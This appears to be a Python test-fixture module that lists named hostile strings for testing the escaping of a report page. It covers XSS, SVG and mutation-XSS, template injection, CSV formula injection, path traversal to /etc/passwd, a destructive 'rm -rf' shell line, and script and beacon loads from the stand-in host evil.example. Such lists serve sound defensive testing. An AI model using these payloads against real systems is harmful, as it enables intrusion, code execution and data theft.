r"""Texts that try to break out of the place where a report shows them.

Each is an `Attack` with a name. Whoever runs script in a page sets the canary ``window.hacked``; whoever loads
something asks for it at ``evil.example``. Lone surrogates are not here: no record takes them (there is a test).

References
----------
OWASP, "Cross Site Scripting Filter Evasion Cheat Sheet". PortSwigger, "Cross-site scripting cheat sheet".
M. Heiderich et al., "mXSS Attacks: Attacking well-secured Web-Applications by using innerHTML Mutations", CCS 2013.
N. Boucher and R. Anderson, "Trojan Source: Invisible Vulnerabilities", 2021.
"""

from __future__ import annotations

from typing import NamedTuple

CANARY = "window.hacked=1"


class Attack(NamedTuple):
    """A hostile text, and what it is called."""

    name: str
    text: str


_HTML = {
    "script": "<script>window.hacked=1</script>",
    "script-upper-case": "<SCRIPT>window.hacked=1</SCRIPT>",
    "script-from-elsewhere": "<script src=https://evil.example/a.js></script>",
    "script-without-protocol": "<script src=//evil.example/a.js></script>",
    "script-module": '<script type="module">window.hacked=1</script>',
    "script-unclosed": "<script>window.hacked=1",
    "script-nested": "<scr<script>ipt>window.hacked=1</scr</script>ipt>",
    "script-slash": "<script/x>window.hacked=1</script/x>",
    "script-newline": "<script\n>window.hacked=1</script\n>",
    "img-onerror": "<img src=x onerror=window.hacked=1>",
    "img-onerror-quoted": '"><img src="x" onerror="window.hacked=1">',
    "img-without-space": "<img/src=x/onerror=window.hacked=1>",
    "img-backticks": "<img src=`x`onerror=window.hacked=1>",
    "img-beacon": '<img src="https://evil.example/pixel.gif">',
    "img-unclosed": '<img src="https://evil.example/steal?',
    "img-srcset": '<img srcset="https://evil.example/1x.png 1x">',
    "picture-source": '<picture><source srcset="https://evil.example/p.png"><img></picture>',
    "iframe": '<iframe src="javascript:parent.hacked=1"></iframe>',
    "iframe-srcdoc": '<iframe srcdoc="<script>parent.hacked=1</script>"></iframe>',
    "object": '<object data="javascript:window.hacked=1"></object>',
    "embed": '<embed src="javascript:window.hacked=1">',
    "body-onload": "</body><body onload=window.hacked=1>",
    "frameset": '<frameset onload="window.hacked=1"><frame src="about:blank"></frameset>',
    "input-autofocus": "<input autofocus onfocus=window.hacked=1>",
    "textarea-autofocus": "</textarea><textarea autofocus onfocus=window.hacked=1>",
    "details-ontoggle": "<details open ontoggle=window.hacked=1>x</details>",
    "video-onerror": "<video><source onerror=window.hacked=1></video>",
    "audio-onerror": "<audio src=x onerror=window.hacked=1>",
    "marquee-onstart": "<marquee onstart=window.hacked=1>x</marquee>",
    "form-action": '<form action="javascript:window.hacked=1"><button autofocus>Go</button></form>',
    "button-formaction": '<button formaction="javascript:window.hacked=1">Go</button>',
    "base-href": '<base href="https://evil.example/">',
    "meta-refresh": '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    "meta-refresh-data": '<meta http-equiv=refresh content="0;url=data:text/html,<script>alert(1)</script>">',
    "link-stylesheet": '<link rel="stylesheet" href="https://evil.example/a.css">',
    "link-prefetch": '<link rel="dns-prefetch" href="//evil.example">',
    "custom-element": "<x-y onclick=window.hacked=1 tabindex=1 autofocus onfocus=window.hacked=1>x</x-y>",
    "dialog-popover": "<button popovertarget=p>x</button><div popover id=p onbeforetoggle=window.hacked=1>y</div>",
    "dom-clobbering": "<form id=document><input name=body><input id=location></form>",
    "plaintext": "<plaintext>the rest of the page",
    "xmp": "<xmp><script>window.hacked=1</script></xmp>",
    "closes-everything": "</p></td></tr></table></article></details></section></main></body></html>",
    "closes-title": "</title><script>window.hacked=1</script>",
    "closes-mark": "</mark></p><script>window.hacked=1</script><p><mark>",
}

_SVG = {
    "svg-onload": "<svg onload=window.hacked=1>",
    "svg-without-space": "<svg/onload=window.hacked=1>",
    "svg-script": "<svg><script>window.hacked=1</script></svg>",
    "svg-script-href": '<svg><script href="data:text/javascript,window.hacked=1"/></svg>',
    "svg-script-entity": "<svg><script>window&#46;hacked=1</script></svg>",
    "svg-animate": '<svg><animate onbegin="window.hacked=1" attributeName=x dur=1s>',
    "svg-set-href": '<svg><a id=x><set attributeName="href" to="javascript:window.hacked=1"/><text>x</text></a></svg>',
    "svg-foreign-object": "<svg><foreignObject><img src=x onerror=window.hacked=1></foreignObject></svg>",
    "svg-use": '<svg><use href="https://evil.example/sprite.svg#x"/></svg>',
    "svg-image": '<svg><image href="https://evil.example/i.png" onerror="window.hacked=1"/></svg>',
    "closes-svg-text": "</text></g></svg><script>window.hacked=1</script>",
    "closes-svg-title": "</title></svg><img src=x onerror=window.hacked=1>",
    "math-href": '<math><maction actiontype="statusline" xlink:href="javascript:window.hacked=1">x</maction></math>',
}

_ATTRIBUTES = {
    "double-quote": '" onmouseover="window.hacked=1',
    "single-quote": "' onmouseover='window.hacked=1",
    "double-quote-autofocus": '" autofocus tabindex=1 onfocus="window.hacked=1" x="',
    "unquoted": "x onfocus=window.hacked=1 autofocus",
    "backtick": "` onmouseover=`window.hacked=1",
    "slash-quote": '\\" onmouseover=\\"window.hacked=1',
    "style-attribute": '" style="position:fixed;inset:0;background:red',
    "animation-event": '" style="animation:x 1s" onanimationstart="window.hacked=1',
    "several-classes": 'oppose support" class="verdict',
    "id-clash": 'main" id="main',
    "newline-in-attribute": '"\nonfocus=window.hacked=1\nautofocus\nx="',
    "formfeed-in-attribute": '"\fonfocus=window.hacked=1\fautofocus\fx="',
    "equals-greater": '">=<b>bold</b>',
}

_URLS = {
    "javascript-url": "javascript:window.hacked=1//",
    "javascript-url-mixed-case": "JaVaScRiPt:window.hacked=1//",
    "javascript-url-entity": "javascript&colon;window.hacked=1//",
    "javascript-url-tab": "java\tscript:window.hacked=1//",
    "javascript-url-leading-control": "\x01javascript:window.hacked=1//",
    "javascript-link": '<a href="javascript:window.hacked=1">click</a>',
    "javascript-markdown": "[click](javascript:window.hacked=1)",
    "markdown-image": "![x](https://evil.example/m.png)",
    "data-url": "data:text/html,<script>window.hacked=1</script>",
    "data-url-base64": "data:text/html;base64,PHNjcmlwdD53aW5kb3cuaGFja2VkPTE8L3NjcmlwdD4=",
    "vbscript-url": "vbscript:MsgBox(1)",
    "plain-url": "https://evil.example/looks/harmless?q=1#x",
    "url-of-file": "file:///etc/passwd",
    "fragment": "#question-1",
    "query-and-fragment": "?q=<b>&sort=-1#:~:text=x",
}

_CSS = {
    "style-element": "<style>*{display:none!important}</style>",
    "style-import": "<style>@import 'https://evil.example/a.css';</style>",
    "style-background": '<div style="background:url(https://evil.example/b.png)">x</div>',
    "css-breakout": "red;} body{display:none} .x{color:",
    "css-value": "100%;position:fixed;inset:0;background:url(//evil.example/c.png)",
    "css-expression": "expression(window.hacked=1)",
    "css-comment": "*/ body{display:none} /*",
    "closes-style": "</style><script>window.hacked=1</script><style>",
    "css-attribute-selector": '<style>input[value^="a"]{background:url(//evil.example/a)}</style>',
    "css-escape": "\\3c script\\3e window.hacked=1",
}

_TEMPLATES = {
    "jinja-expression": "{{ 7*7 }}",
    "jinja-attributes": "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "jinja-config": "{{ config }}{{ self }}{{ report }}",
    "jinja-statement": "{% for x in range(9) %}pwn{% endfor %}",
    "jinja-include": "{% include '/etc/passwd' %}",
    "jinja-comment": "{# gone #}",
    "jinja-raw": "{% endraw %}{{ 7*7 }}{% raw %}",
    "mustache-unescaped": "{{{ constructor }}}",
    "angular": "{{constructor.constructor('window.hacked=1')()}}",
    "vue-directive": "<p v-html=\"'<img src=x onerror=window.hacked=1>'\">x</p>",
    "erb": "<%= 7*7 %>",
    "php": "<?php echo 7*7; ?>",
    "javascript-literal": "${window.hacked=1}",
    "python-format": "{0.__class__} %s %(x)s {}",
    "string-template": "$disclaimer ${disclaimer} %%DATA%% @@DATA@@ __DATA__",
    "replacement-pattern": "$& $1 $` $' \\1 \\g<0>",
    "ssi": '<!--#exec cmd="id" -->',
}

_DATA = {
    "closes-script": "</script><script>window.hacked=1</script>",
    "closes-script-upper-case": "</SCRIPT ><img src=x onerror=window.hacked=1>",
    "script-double-escape": "<!--<script>",
    "script-double-escape-closed": "<!--<script></script>--><script>window.hacked=1</script>",
    "json-breakout": '"}];window.hacked=1;//',
    "json-breakout-single": "'}];window.hacked=1;//",
    "javascript-backslash": "\\';window.hacked=1;//",
    "trailing-backslash": "ends with a backslash \\",
    "line-separators": "a\u2028window.hacked=1\u2029b",
    "prototype": "__proto__",
    "constructor": "constructor",
    "has-own-property": "hasOwnProperty",
    "regular-expression": "(((((a+)+)+)+)+$ [ ( * \\",
    "cdata": "<![CDATA[<script>window.hacked=1</script>]]>",
    "cdata-end": "]]><script>window.hacked=1</script>",
}

_COMMENTS = {
    "comment-open": "<!-- the rest is gone",
    "comment-close": "--><script>window.hacked=1</script>",
    "comment-bang": "--!><img src=x onerror=window.hacked=1>",
    "comment-short": "<!--><img src=x onerror=window.hacked=1>",
    "comment-conditional": "<!--[if gte IE 4]><script>window.hacked=1</script><![endif]-->",
    "bogus-comment": '<!x><?x "><img src=x onerror=window.hacked=1>',
    "doctype": '<!DOCTYPE html [<!ENTITY x SYSTEM "file:///etc/passwd">]>&x;',
}

_MUTATION = {
    "mutation-noscript": '<noscript><p title="</noscript><img src=x onerror=window.hacked=1>">',
    "mutation-style-in-svg": '<svg></p><style><a id="</style><img src=1 onerror=window.hacked=1>">',
    "mutation-math": (
        '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=window.hacked=1&gt;">'
    ),
    "mutation-form": '<form><math><mtext></form><form><mglyph><style></math><img src onerror="window.hacked=1">',
    "mutation-title": '<svg><title><a id="</title><img src=x onerror=window.hacked=1>">',
    "mutation-textarea": '<textarea><img title="</textarea><img src=x onerror=window.hacked=1>">',
    "mutation-template": "<template><script>window.hacked=1</script></template>",
    "mutation-shadow-root": '<div><template shadowrootmode="open"><script>window.hacked=1</script></template></div>',
    "mutation-foster-parent": "<table><tr><td><table><img src=x onerror=window.hacked=1>",
    "mutation-select": "<select><option><img src=x onerror=window.hacked=1></select>",
}

_ENTITIES = {
    "entity-script": "&lt;script&gt;window.hacked=1&lt;/script&gt;",
    "entity-numeric": "&#60;img src=x onerror=window.hacked=1&#62;",
    "entity-hexadecimal": "&#x3c;img src=x onerror=window.hacked=1&#x3e;",
    "entity-without-semicolon": "&lt&gt&amp&quot&#60",
    "entity-double": "&amp;lt;script&amp;gt;",
    "entity-quote": "&quot; onfocus=&quot;window.hacked=1",
    "entity-apostrophe": "&#39; onfocus=&#39;window.hacked=1 &#39;",
    "entity-null": "&#0;&#x110000;&#xD800;&bogus;",
    "percent-encoded": "%3Cscript%3Ewindow.hacked=1%3C/script%3E",
    "utf7": "+ADw-script+AD4-window.hacked=1+ADw-/script+AD4-",
    "overlong-as-latin1": "\u00c0\u00bcscript\u00c0\u00be",
    "javascript-escape": "\\u003cscript\\u003ewindow.hacked=1",
    "full-width": "\uff1cscript\uff1ewindow.hacked=1\uff1c/script\uff1e",
}

_UNICODE = {
    "null-byte": "null\x00byte",
    "null-in-tag": "<scr\x00ipt>window.hacked=1</scr\x00ipt>",
    "null-in-attribute": '"\x00onfocus=window.hacked=1 autofocus x="',
    "controls": "\x01\x02\x07\x08\x0b\x1b[31mred\x1b[0m\x7f\x80\x9f",
    "carriage-returns": "one\rtwo\r\nthree\nfour",
    "byte-order-mark": "\ufeff<script>window.hacked=1</script>",
    "non-characters": "\ufffe\uffff\U0001ffff\U0010ffff",
    "private-use": "\ue000\uf8ff\U000f0000 private",
    "bidi-override": "safe \u202eesrever\u202c safe",
    "bidi-unclosed-override": "\u202e\u2066 never closed",
    "bidi-isolates": "\u2067evil\u2069 \u2066<b>\u2069",
    "bidi-closes-isolate": "safe \u2069\u2069\u202e esrever",
    "bidi-closes-embedding": "\u202c\u202c\u202d\u202e esrever",
    "arabic-and-hebrew": "\u0647\u0644 \u0647\u0648 \u0622\u0645 \u05d4\u05d0 \u05d6\u05d4 \u05d8\u05d5\u05d1?",
    "zalgo": "z" + "\u0335\u0321\u0322\u0327\u0349\u0353\u0300\u0301\u0304\u030b\u0489" * 30 + "algo",
    "combining-first": "\u0301\u0301\u0301 starts with a mark",
    "zero-width": "<scr\u200bipt>window.hacked=1</scr\u200bipt> \u200c\u200d\u2060\ufeff",
    "only-invisible": "\u200b\u200b\u200b\u2060\u2060 \u00ad\u00ad .",
    "homoglyphs": "\u0430\u0440\u0440l\u0435 \u2039script\u203a \u0455\u0441r\u0456pt",
    "kelvin-and-long-s": "\u212a\u017fcript <\u017fcript>window.hacked=1</\u017fcript>",
    "dotted-i": "\u0130\u0130\u0130 \u0131 \u1e9e \ufb03",
    "emoji-sequences": "\U0001f468\u200d\U0001f469\u200d\U0001f467 \U0001f44d\U0001f3fd \U0001f1fa\U0001f1f3 1\u20e3",
    "emoji-tag-sequence": "\U0001f3f4\U000e0067\U000e0062\U000e0073\U000e0063\U000e0074\U000e007f flag",
    "variation-selectors": "a\ufe00b\ufe0fc\U000e0100",
    "spaces": "a\u00a0b\u2003c\u3000d\u1680e\u180ef\u205fg",
    "interlinear": "\ufff9a\ufffab\ufffb \ufffc \ufffd",
    "tags-block": "x\U000e0001\U000e0020\U000e0041",
    "ogham-and-tall": "\u0e01\u0e33\u0e49\u0e49\u0e49\u0e49\u0e49\u0e49\u0e49\u0e49 \ufdfd \U00012031",
    "long-word": "Pneumonoultramicroscopic" * 40,
    "long-word-without-latin": "\u6f22" * 800,
    "long-url": "https://evil.example/" + "a" * 900,
    "long-markup": "<b>" * 300,
    "long-digits": "9" * 700,
    "long-no-break": "no\u00a0break\u00a0" * 60,
    "long-joined": "a\u2060b\u2060" * 200,
}

_SPREADSHEETS = {
    "formula-equals": '=HYPERLINK("https://evil.example/","click")',
    "formula-command": "=cmd|' /C calc'!A0",
    "formula-plus": "+1+cmd|' /C calc'!A0",
    "formula-minus": "-2+3+cmd|' /C calc'!A0",
    "formula-at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "formula-tab": "\t=1+1 after a tab",
    "formula-full-width": "\uff1d1+1",
    "csv-breakout": '","=1+1","\r\n=1+1',
}

_PATHS = {
    "path-up": "../../../../etc/passwd",
    "path-up-windows": "..\\..\\..\\windows\\win.ini",
    "path-absolute": "/etc/passwd",
    "path-drive": "C:\\con\\nul.html",
    "path-encoded": "..%2f..%2f..%c0%afetc%2fpasswd",
    "path-null": "index.html\x00.jpg",
    "path-index": "index.html",
    "path-device": "CON.html",
    "path-long": "a/" * 300,
    "path-dots": ". . .. ...",
    "path-share": "\\\\evil.example\\share",
    "shell": "; rm -rf / #`id`$(id)",
}

ATTACKS = tuple(
    Attack(name, text)
    for kind in (
        _HTML, _SVG, _ATTRIBUTES, _URLS, _CSS, _TEMPLATES, _DATA, _COMMENTS, _MUTATION, _ENTITIES, _UNICODE,
        _SPREADSHEETS, _PATHS,
    )
    for name, text in kind.items()
)  # fmt: skip


def calm_down(number: int, text: str) -> str:
    """Return the harmless twin of a text: letters for what is visible, of the same length, white space kept.

    A page of twins has the elements, and shows the texts as often, as a page of attacks on which nothing works.

    Examples
    --------
    >>> calm_down(27, '<b x="1">')
    'bb xqqqqq'
    """
    mark = chr(ord("a") + number // 26 % 26) + chr(ord("a") + number % 26) + "x"
    letters = iter(mark)
    return "".join(char if char.isspace() else next(letters, "q") for char in text)
